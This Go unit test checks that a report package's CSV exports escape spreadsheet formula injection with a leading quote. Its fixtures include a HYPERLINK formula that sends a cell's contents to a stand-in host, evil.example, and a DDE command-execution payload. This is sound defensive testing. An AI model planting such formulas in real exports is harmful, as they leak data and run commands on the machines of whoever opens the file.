package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

// TestCSVCellsAreNotFormulas: a visitor's words that a spreadsheet would run
// come out as text, with OWASP's leading quote, in every report CSV.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	var buf bytes.Buffer
	gaps := []Gap{{Question: formula, Count: 2, Language: "en"}, {Question: "+1 555", Count: 1}, {Question: "-2+3+cmd|' /C calc'!A0", Count: 1},
		{Question: "@SUM(A1)", Count: 1}, {Question: "\tx", Count: 1}, {Question: "\rx", Count: 1}, {Question: "plain", Count: 1}}
	if err := GapsCSV(&buf, gaps); err != nil {
		t.Fatal(err)
	}
	nps := -12.5
	if err := SummaryCSV(&buf, Summary{Figures: Figures{NPS: &nps}, KBGaps: []GapCount{{Question: formula, Count: 2}}}); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(buf.Bytes()))
	cr.FieldsPerRecord = -1 // two reports in one buffer
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][0]; got != "'"+formula {
		t.Errorf("gap question %q, want it quoted", got)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && c != "-12.5" {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	if !strings.Contains(buf.String(), "\nplain,1,") || !strings.Contains(buf.String(), "\nnps,-12.5\n") {
		t.Errorf("a plain question or a negative number was changed:\n%s", buf.String())
	}
}
